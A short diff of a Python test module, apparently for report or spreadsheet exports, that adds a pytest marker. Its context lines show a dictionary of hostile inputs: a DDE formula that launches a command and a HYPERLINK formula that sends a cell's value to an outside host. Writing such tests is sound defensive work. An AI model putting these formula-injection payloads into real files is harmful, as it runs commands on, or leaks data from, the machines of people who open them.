@@ -27,6 +27,8 @@ from reports.papers.sizes import SIZES
 from tests.factories import a_delivery, a_grade, a_lot, june, no_guards
 from tests.test_reports_paper import DELIVERY, RECEIPT, SALE, head
 
+pytestmark = pytest.mark.bar("R14")
+
 HOSTILE = {
     "formula": "=cmd|' /C calc'!A0",
     "formula with a link": '=HYPERLINK("http://x/?"&A1,"ver")',
